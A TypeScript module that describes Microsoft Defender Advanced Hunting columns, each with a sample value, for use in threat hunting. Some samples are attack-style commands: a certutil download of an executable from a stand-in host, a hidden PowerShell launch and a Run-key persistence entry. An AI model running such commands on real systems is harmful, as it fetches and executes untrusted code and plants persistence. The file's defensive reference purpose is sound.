/** What the columns of Advanced Hunting hold, in a sentence, with an example. */

export interface ColumnGuide {
  /** A sentence. */
  readonly about: string;
  readonly example?: string;
}

/** Column, what it holds, an example: one column a line. */
const COLUMNS = `
Timestamp | When the event happened, in UTC | 2026-11-27T08:15:30.1234567Z
TimeGenerated | When the event was recorded, in UTC | 2026-11-27T08:15:30Z
ReportId | A number of the event that repeats: with DeviceName and Timestamp it names one event | 48213
ActionType | What happened; each table has its own names | ProcessCreated
AdditionalFields | More about the event as JSON; what is in it depends on ActionType | {"Protocol":"TCP"}
DeviceId | Defender's identifier of the device | 9c1f4e0b7a6d5c3e2f1a0b9c8d7e6f5a4b3c2d1e
DeviceName | The full name of the device in the domain | pc-0815.contoso.com
MachineGroup | The device group, by which access and settings are given | Clients
OSPlatform | The operating system | Windows11
OSVersion | The version of the operating system | 10.0
OSBuild | The build of the operating system | 22631
PublicIP | The address from which the device reaches Defender | 203.0.113.7
LoggedOnUsers | The users who were logged on, as JSON | [{"UserName":"ada","DomainName":"contoso"}]
DeviceManualTags | Tags that people gave the device | ["vip"]
DeviceDynamicTags | Tags that rules gave the device | ["server"]
IsAzureADJoined | Whether the device is joined to Entra ID | true
IsInternetFacing | Whether the device can be reached from the internet | false
ExposureLevel | How exposed the device is to its vulnerabilities | High
OnboardingStatus | Whether the device is managed by Defender | Onboarded
SensorHealthState | Whether the sensor of the device works | Active
FileName | The name of the file that the event is about, without its folder | powershell.exe
FolderPath | The folder of the file; of a process the whole path of its program | C:\\Windows\\System32\\cmd.exe
FileSize | The size of the file in bytes | 289792
MD5 | The MD5 hash of the file | 7353f60b1739074eb17c5f4dddefe239
SHA1 | The SHA-1 hash of the file | 6cbce4a295c163791b60fc23d285e6d84f28ee4c
SHA256 | The SHA-256 hash of the file; often empty, so use SHA1 where it is there | de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c
PreviousFileName | The name of the file before it was renamed | report.docx
PreviousFolderPath | The folder of the file before it was moved | C:\\Users\\ada\\Downloads
FileOriginUrl | The address from which the file was downloaded | https://example.com/setup.exe
FileOriginReferrerUrl | The page that led to the download | https://example.com/
FileOriginIP | The address from which the file was downloaded | 198.51.100.4
ProcessId | The number of the process that was created, used again later | 4711
ProcessUniqueId | An identifier of the process that is not used again | 1688849860270000
ProcessCommandLine | The command line of the new process | certutil.exe -urlcache -f http://example.com/a.exe
ProcessCreationTime | When the process was created | 2026-11-27T08:15:30Z
ProcessIntegrityLevel | The integrity level of the process: Low, Medium, High, System | High
ProcessTokenElevation | Whether the process runs with a token with more rights | TokenElevationTypeFull
LogonId | The number of the logon session on the device, used again after a restart | 999
LogonType | How somebody logged on | RemoteInteractive
FailureReason | Why the logon failed | InvalidUserNameOrPassword
IsLocalAdmin | Whether the account is an administrator of the device | true
AccountName | The name of the account | ada
AccountDomain | The domain of the account | contoso
AccountSid | The security identifier of the account | S-1-5-21-1004336348-1177238915-682003330-512
AccountUpn | The user principal name of the account | ada@contoso.com
AccountObjectId | The account's identifier in Entra ID | 7f0b6c1e-6f0e-4a3e-9a4b-1c0b7d0e8f21
AccountDisplayName | The name of the account as people see it | Ada Lovelace
AccountType | What kind of account it is | Regular
RemoteIP | The other address of the connection, or the one that the logon came from; IPv4 may be written as ::ffff:203.0.113.7 | 203.0.113.7
RemotePort | The port at the other address | 443
RemoteUrl | The address or the host name that was connected to | example.com
RemoteIPType | What kind of address RemoteIP is | Public
RemoteDeviceName | The name of the other device | dc-01.contoso.com
LocalIP | The address of the device in the connection | 192.0.2.17
LocalPort | The port on the device | 50123
LocalIPType | What kind of address LocalIP is | Private
Protocol | The protocol of the connection | Tcp
RegistryKey | The registry key, with the whole name of its hive | HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run
RegistryValueName | The name of the value in the key | Updater
RegistryValueData | What was written into the value | C:\\Users\\Public\\a.exe
RegistryValueType | The type of the value | String
PreviousRegistryKey | The key before it was renamed or deleted | HKEY_CURRENT_USER\\Software\\Old
PreviousRegistryValueName | The name of the value before the event | Updater
PreviousRegistryValueData | The data of the value before the event | 1
InitiatingProcessParentFileName | The file name of the process that started the initiating process | explorer.exe
InitiatingProcessParentId | The number of the process that started the initiating process | 1234
InitiatingProcessParentCreationTime | When the parent of the initiating process was created | 2026-11-27T08:00:00Z
AppGuardContainerId | The container of Application Guard in which it happened |
AlertId | The identifier of the alert, which AlertInfo and AlertEvidence share | da638364598212345678_-1234567890
Title | The title of the alert | Suspicious PowerShell command line
Category | The category of the alert, as a tactic of ATT&CK | Execution
Severity | How grave the alert is | High
ServiceSource | The product that raised the alert | Microsoft Defender for Endpoint
DetectionSource | The technology that detected it | EDR
AttackTechniques | Techniques of ATT&CK, as text | ["PowerShell (T1059.001)"]
Categories | The categories of the alert, as text | ["Execution"]
EntityType | What kind of thing the evidence is | Process
EvidenceRole | Whether the evidence was attacked or only has to do with the alert | Impacted
EvidenceDirection | Which end of a connection the evidence is | Destination
ThreatFamily | The family of the malware | Emotet
NetworkMessageId | Defender's identifier of the message, shared by all tables on mail | 6a7b8c9d-0e1f-4a2b-8c3d-4e5f60718293
InternetMessageId | The header Message-ID of the message | <abc@mail.example.com>
SenderFromAddress | The sender in the header From | billing@example.com
SenderFromDomain | The domain of the sender in the header From | example.com
SenderMailFromAddress | The sender of the envelope, to which bounces go | bounce@example.com
SenderMailFromDomain | The domain of the sender of the envelope | example.com
SenderDisplayName | The name of the sender as people see it | Billing
SenderIPv4 | The address of the mail server that sent the message | 198.51.100.4
SenderIPv6 | The same as IPv6 | 2001:db8::4
RecipientEmailAddress | The address of the recipient | ada@contoso.com
RecipientObjectId | The recipient's identifier in Entra ID | 7f0b6c1e-6f0e-4a3e-9a4b-1c0b7d0e8f21
Subject | The subject of the message | Invoice 4711
EmailDirection | Whether the message came in, went out or stayed inside | Inbound
DeliveryAction | What was done with the message | Blocked
DeliveryLocation | Where the message was delivered to | Inbox/folder
LatestDeliveryLocation | Where the message is now | Quarantine
LatestDeliveryAction | What was done with the message last | Blocked
ThreatTypes | What the filters found | Phish
ThreatNames | The names of the threats that were found | Trojan:Win32/Emotet
DetectionMethods | How the filters found it, as JSON | {"Phish":["URL detonation"]}
AuthenticationDetails | The results of SPF, DKIM and DMARC, as JSON | {"SPF":"pass","DKIM":"pass","DMARC":"pass"}
AttachmentCount | How many attachments the message has | 1
UrlCount | How many links the message has | 3
Url | The whole link | https://example.com/login
UrlDomain | The host of the link | example.com
UrlLocation | Where in the message the link stands | Body
FileType | The type of the attachment by its content | pdf
IsClickedThrough | Whether the user went on to the page in spite of the warning | true
Workload | The application in which the user clicked | Email
ActionTrigger | What started the action after the delivery | SystemAction
IPAddress | The address that the activity came from | 203.0.113.7
Port | The port that was used | 445
Location | The place of the address | DE
Country | The country of the address, two letters | DE
CountryCode | The country of the address, two letters | DE
City | The city of the address | Berlin
ISP | The provider of the address | Example Telecom
Isp | The provider of the address | Example Telecom
UserAgent | What the client says of itself | Mozilla/5.0
Application | The application that the activity happened in | Microsoft Exchange Online
ApplicationId | The number of the application | 20893
ActivityType | The kind of activity | Sign-in
ActivityObjects | What the activity was done to, as JSON | [{"Type":"File","Name":"a.docx"}]
ObjectName | The name of what the activity was done to | a.docx
ObjectType | The kind of what the activity was done to | File
ObjectId | The identifier of what the activity was done to | 4f5a
RawEventData | The whole record of the application, as JSON | {"Operation":"New-InboxRule"}
IsAdminOperation | Whether an administrator did it | false
IsExternalUser | Whether the user belongs to another organisation | false
IsAnonymousProxy | Whether the address is that of an anonymous proxy | false
IsImpersonated | Whether one user acted as another | false
TargetAccountUpn | The account that the activity was about | grace@contoso.com
TargetAccountDisplayName | The name of that account as people see it | Grace Hopper
TargetDeviceName | The device that the activity was about | dc-01.contoso.com
DestinationDeviceName | The device at which the service ran | dc-01.contoso.com
DestinationIPAddress | The address at which the service ran | 192.0.2.10
DestinationPort | The port at which the service ran | 389
Query | The query, in the words of the protocol | AllDomains
QueryType | The kind of the query | QueryGroup
QueryTarget | The name that was asked for | Domain Admins
Department | The department of the person | Finance
JobTitle | The job of the person | Accountant
IsSigned | Whether the file is signed | true
IsTrusted | Whether the signature is trusted | true
Signer | Who signed the file | Microsoft Corporation
Issuer | Who issued the certificate | Microsoft Code Signing PCA 2011
`;

/** What a part of the name of a process's columns says. */
const OF_PROCESS = `
VersionInfoCompanyName | the company that the program names | Microsoft Corporation
VersionInfoProductName | the product that the program names | Microsoft Windows Operating System
VersionInfoProductVersion | the version that the program names | 10.0.22621.1
VersionInfoInternalFileName | the internal name of the program | POWERSHELL
VersionInfoOriginalFileName | the name of the program when it was built, which a renamed copy keeps | PowerShell.EXE
VersionInfoFileDescription | the description in the program | Windows PowerShell
CommandLine | the command line | powershell.exe -nop -w hidden
CreationTime | when it was created | 2026-11-27T08:15:30Z
FileName | the name of its program | powershell.exe
FolderPath | the whole path of its program | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
FileSize | the size of its program in bytes | 289792
MD5 | the MD5 hash of its program | 7353f60b1739074eb17c5f4dddefe239
SHA1 | the SHA-1 hash of its program | 6cbce4a295c163791b60fc23d285e6d84f28ee4c
SHA256 | the SHA-256 hash of its program; often empty | de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c
Id | its number, used again later | 4711
UniqueId | its identifier, which is not used again | 1688849860270000
SessionId | the session that it runs in | 1
LogonId | the number of its logon session | 999
AccountName | the account that it runs under | ada
AccountDomain | the domain of the account that it runs under | contoso
AccountSid | the security identifier of the account that it runs under | S-1-5-18
AccountUpn | the user principal name of the account that it runs under | ada@contoso.com
AccountObjectId | the identifier in Entra ID of the account that it runs under | 7f0b6c1e-6f0e-4a3e-9a4b-1c0b7d0e8f21
IntegrityLevel | its integrity level: Low, Medium, High, System | High
TokenElevation | whether its token has more rights | TokenElevationTypeFull
SignatureStatus | whether its program is signed, and the signature valid | Valid
SignerType | who signed its program | OsVendor
RemoteSessionDeviceName | the device from which its remote session comes | pc-0815
RemoteSessionIP | the address from which its remote session comes | 192.0.2.17
`;

const PREFIXES: readonly (readonly [prefix: string, of: string])[] = [
  ['InitiatingProcess', 'Of the process that did it'],
  ['Process', 'Of the process'],
];

function readGuide(text: string): ReadonlyMap<string, ColumnGuide> {
  return new Map(
    text
      .trim()
      .split('\n')
      .map((line): [string, ColumnGuide] => {
        const [name = '', about = '', example = ''] = line.split('|').map((part) => part.trim());
        return [name, { about, ...(example !== '' && { example }) }];
      }),
  );
}

const GUIDE = readGuide(COLUMNS);
const PROCESS_GUIDE = readGuide(OF_PROCESS);

/** Undefined for a column of which nothing is written here. */
export function columnGuide(name: string): ColumnGuide | undefined {
  const own = GUIDE.get(name);
  if (own) return { ...own, about: `${own.about}.` };
  for (const [prefix, of] of PREFIXES) {
    const part = name.startsWith(prefix) ? PROCESS_GUIDE.get(name.slice(prefix.length)) : undefined;
    if (part) return { ...part, about: `${of}: ${part.about}.` };
  }
  return undefined;
}
